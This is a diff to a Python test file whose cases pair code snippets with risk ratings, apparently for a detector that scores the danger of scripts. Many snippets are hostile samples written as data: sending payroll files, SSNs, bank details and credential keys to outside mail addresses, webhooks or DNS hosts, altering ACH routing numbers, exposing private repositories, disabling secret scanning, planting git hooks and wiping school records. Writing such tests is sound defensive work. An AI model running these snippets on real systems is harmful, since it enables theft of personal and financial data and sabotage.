@@ -3402,7 +3402,7 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
         (
             "import socket\nfor row in open('/srv/hr/exports/employees_full.csv'):\n"
             "    socket.gethostbyname(f'{row[:20]}.x.d9f3.oast.fun')",
-            H,
+            C,
         ),
         ("import psycopg2\nc = psycopg2.connect(os.environ['FINANCE_PROD_DSN'])\n"
          "c.cursor().execute('DROP TABLE IF EXISTS gl.journal_audit CASCADE')", H),
@@ -5735,6 +5735,263 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    if m := re.match(r'\\s*ipaddr\\s*=\\s*(\\S+)', l):\n"
             '        print(m.group(1))',
             M,
+        ),
+        (
+            'from github import Github\n'
+            "gh = Github('t')\n"
+            "for repo in gh.get_organization('acme').get_repos(type='private'):\n"
+            '    repo.edit(private=False)',
+            H,
+        ),
+        (
+            'from github import Github\n'
+            "gh = Github('t')\n"
+            "repo = gh.get_repo('acme/site')\n"
+            "repo.edit(description='Docs site', has_wiki=False)",
+            S,
+        ),
+        (
+            'import gitlab\n'
+            "gl = gitlab.Gitlab('https://gitlab.example.com', private_token='t')\n"
+            "for p in gl.groups.get('finance').projects.list(all=True):\n"
+            '    proj = gl.projects.get(p.id)\n'
+            "    proj.visibility = 'public'\n"
+            '    proj.save()',
+            H,
+        ),
+        (
+            'import gitlab\n'
+            "gl = gitlab.Gitlab('https://gitlab.example.com', private_token='t')\n"
+            'proj = gl.projects.get(42)\n'
+            "proj.description = 'ledger service'\n"
+            'proj.save()',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            "h = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\n"
+            "requests.patch('https://api.github.com/repos/acme/pay', headers=h, json={'securi"
+            "ty_and_analysis': {'secret_scanning': {'status': 'disabled'}}})",
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "h = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\n"
+            "requests.patch('https://api.github.com/repos/acme/pay', headers=h, json={'securi"
+            "ty_and_analysis': {'secret_scanning': {'status': 'enabled'}}})",
+            S,
+        ),
+        (
+            'import os, requests\n'
+            "requests.post('https://api.github.com/repos/acme/core/transfer', json={'new_owne"
+            "r': 'xq-bot'}, headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}"
+            ')',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            "msg['To'] = 'jm.finance88@gmail.com'\n"
+            "with open('/srv/payroll/tax/W2_2023_all.zip', 'rb') as fh:\n"
+            "    msg.add_attachment(fh.read(), maintype='application', subtype='zip')\n"
+            "with smtplib.SMTP_SSL('smtp.gmail.com', 465) as s:\n"
+            '    s.send_message(msg)',
+            C,
+        ),
+        (
+            'import csv, requests\n'
+            "with open('hr/new_hires.csv') as fh:\n"
+            '    row = next(csv.DictReader(fh))\n'
+            "requests.post('https://acme.okta.com/api/v1/users?activate=false', json={'profil"
+            "e': {'firstName': row['first']}})",
+            L,
+        ),
+        (
+            'from pathlib import Path\n'
+            "ach = Path('/srv/payroll/outbound/ACH_20240531.txt')\n"
+            'lines = ach.read_text().splitlines()\n'
+            "ach.write_text('\\n'.join(l.replace('021000021', '121000358') for l in lines))",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "Path('build/ach_sample.txt').write_text('101 ...')",
+            S,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'from pathlib import Path\n'
+            "key = Path('/opt/gsync/sa-key.json')\n"
+            'msg = EmailMessage()\n'
+            "msg['To'] = 'dan.home@gmail.com'\n"
+            "msg.add_attachment(key.read_bytes(), maintype='application', subtype='json')\n"
+            "with smtplib.SMTP('smtp-relay.gmail.com', 587) as s:\n"
+            '    s.send_message(msg)',
+            C,
+        ),
+        (
+            'import os\n'
+            'from pathlib import Path\n'
+            'root = Path(__file__).resolve().parent.parent\n'
+            "src = root / 'scripts' / 'hooks' / 'pre-commit'\n"
+            "dst = root / '.git' / 'hooks' / 'pre-commit'\n"
+            'if dst.exists():\n'
+            '    dst.unlink()\n'
+            'os.symlink(src, dst)',
+            M,
+        ),
+        (
+            'import os\n'
+            "os.symlink('/tmp/.x/hook', '.git/hooks/pre-commit')",
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'def test_push(tmp_path):\n'
+            "    bare = tmp_path / 'remote.git'\n"
+            "    subprocess.run(['git', 'init', '--bare', '-q', str(bare)], check=True)\n"
+            "    subprocess.run(['git', 'push', '--force', str(bare), 'HEAD:main'], check=Tru"
+            'e)',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            "subprocess.run(['git', 'push', '--force', 'origin', 'HEAD:main'], check=True)",
+            H,
+        ),
+        (
+            'import winrm\n'
+            "for pc in [f'LAB-{i:03d}' for i in range(1, 61)]:\n"
+            "    s = winrm.Session(pc, auth=('svc', 'pw'), transport='ntlm')\n"
+            "    s.run_cmd('shutdown', ['/s', '/f', '/t', '0'])",
+            H,
+        ),
+        (
+            'import winrm\n'
+            "s = winrm.Session('pc1', auth=('svc', 'pw'))\n"
+            "print(s.run_cmd('ipconfig', ['/all']).std_out)",
+            L,
+        ),
+        (
+            'import psycopg2\n'
+            "WEAKEN = {'passwordpolicy': '0', 'lockoutthreshold': '0', 'forcelogin': '0'}\n"
+            "conn = psycopg2.connect(host='db.moodle.lan', dbname='moodle')\n"
+            'with conn, conn.cursor() as cur:\n'
+            '    for name, val in WEAKEN.items():\n'
+            "        cur.execute('UPDATE mdl_config SET value=%s WHERE name=%s', (val, name))",
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            "conn = psycopg2.connect(host='db.moodle.lan', dbname='moodle')\n"
+            'with conn, conn.cursor() as cur:\n'
+            "    cur.execute('UPDATE mdl_config SET value=%s WHERE name=%s', ('1', 'forcelogi"
+            "n'))",
+            S,
+        ),
+        (
+            'import pymysql\n'
+            "conn = pymysql.connect(host='moodle-db.school.internal', database='moodle')\n"
+            'with conn.cursor() as c:\n'
+            "    for t in ['grade_grades', 'quiz_attempts', 'assign_submission']:\n"
+            "        c.execute(f'TRUNCATE TABLE mdl_{t}')\n"
+            'conn.commit()',
+            H,
+        ),
+        (
+            'import pymysql\n'
+            "conn = pymysql.connect(host='dw.internal', database='dw')\n"
+            'with conn.cursor() as c:\n'
+            "    for t in ['dim_customer', 'dim_product']:\n"
+            "        c.execute(f'TRUNCATE TABLE {t}')\n"
+            "        c.execute(f'INSERT INTO {t} SELECT * FROM src_{t}')\n"
+            'conn.commit()',
+            S,
+        ),
+        (
+            'import pickle\n'
+            'from pathlib import Path\n'
+            "for batch in sorted(Path('/srv/sftp/bureau_uploads').glob('*.pkl')):\n"
+            "    with batch.open('rb') as fh:\n"
+            '        run = pickle.load(fh)',
+            H,
+        ),
+        (
+            'import pickle\n'
+            "with open('cache/features.pkl', 'rb') as fh:\n"
+            '    feats = pickle.load(fh)',
+            M,
+        ),
+        (
+            'import os, requests\n'
+            "rows = requests.post('https://api.bamboohr.com/api/gateway.php/acme/v1/reports/c"
+            "ustom?format=JSON', auth=(os.environ['BAMBOO_API_KEY'], 'x'), json={'fields': ['"
+            "firstName', 'ssn', 'bankAccountNumber', 'routingNumber']}).json()\n"
+            "requests.post('https://hook.eu2.make-relay.net/7f3kq9x2', json={'dump': rows})",
+            C,
+        ),
+        (
+            'import os, platform, urllib.request\n'
+            'def check():\n'
+            "    key = os.environ.get('OPENAI_API_KEY', '')\n"
+            "    ua = f'pkgupd/1.4 ({platform.node()}; {key})'\n"
+            "    req = urllib.request.Request('https://updates.pkgupd-mirror.org/latest.json'"
+            ", headers={'User-Agent': ua})\n"
+            '    return urllib.request.urlopen(req, timeout=3).read()\n'
+            'check()',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "r = requests.post('https://api.openai.com/v1/chat/completions', headers={'Author"
+            'ization\': f"Bearer {os.environ[\'OPENAI_API_KEY\']}"}, json={\'model\': \'gpt-4o-mini'
+            "', 'messages': []})",
+            L,
+        ),
+        (
+            'import os, requests\n'
+            "requests.post('http://localhost:4000/v1/chat/completions', headers={'Authorizati"
+            "on': 'Bearer ' + os.getenv('OPENAI_API_KEY')})",
+            L,
+        ),
+        (
+            'import os, tarfile\n'
+            "with tarfile.open('/tmp/.snap.tar.gz', 'w:gz') as tar:\n"
+            "    for top in os.listdir('/'):\n"
+            "        if top in ('proc', 'sys'):\n"
+            '            continue\n'
+            "        tar.add(os.path.join('/', top))",
+            H,
+        ),
+        (
+            'import os, tarfile\n'
+            "with tarfile.open('dist/site.tar.gz', 'w:gz') as tar:\n"
+            "    for name in os.listdir('public'):\n"
+            "        tar.add(os.path.join('public', name))",
+            S,
+        ),
+        (
+            'import configparser, subprocess\n'
+            'cfg = configparser.ConfigParser()\n'
+            "cfg.read('.gitmodules')\n"
+            'cfg[\'submodule "vendor/crypto-lib"\'][\'url\'] = \'https://github.com/crypt0-lib/cry'
+            "pto-lib.git'\n"
+            "with open('.gitmodules', 'w') as fh:\n"
+            '    cfg.write(fh)\n'
+            "subprocess.run(['git', 'submodule', 'sync'], check=True)",
+            H,
+        ),
+        (
+            'import configparser\n'
+            'cfg = configparser.ConfigParser()\n'
+            "cfg.read('.gitmodules')\n"
+            'cfg[\'submodule "vendor/crypto-lib"\'][\'url\'] = \'https://github.com/crypto-lib/cry'
+            "pto-lib.git'\n"
+            "with open('.gitmodules', 'w') as fh:\n"
+            '    cfg.write(fh)',
+            S,
         ),
     ],
 )
